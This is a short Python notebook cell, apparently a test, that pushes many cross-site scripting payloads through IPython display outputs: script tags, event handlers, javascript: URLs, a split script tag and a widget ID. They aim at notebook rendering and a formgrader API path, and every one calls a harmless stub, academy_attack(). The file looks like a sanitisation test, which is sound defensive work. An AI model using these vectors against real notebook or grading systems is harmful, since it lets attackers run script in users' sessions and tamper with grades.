from IPython.display import HTML, IFrame, Javascript, Markdown, display

display(HTML("<script>academy_attack()</script><img src=x onerror='academy_attack()'>"))
display(HTML("<iframe srcdoc='<script>parent.academy_attack()</script>'></iframe><a href='javascript:academy_attack()'>marks</a>"))
display(HTML("<form action='/formgrader/api/academy_attack'><button autofocus onfocus='academy_attack()'></form><svg onload='academy_attack()'>"))
display(Javascript("academy_attack()"), IFrame("javascript:academy_attack()", 1, 1))
display(Markdown("<script>academy_attack()</script> [marks](javascript:academy_attack())"))
display({"application/javascript": "academy_attack()", "text/latex": "$\\href{javascript:academy_attack()}{x}$"}, raw=True)
display({"text/html": ["<scr", "ipt>academy_attack()</script>"], "text/plain": ""}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "<script>academy_attack()</script>"}}, raw=True)
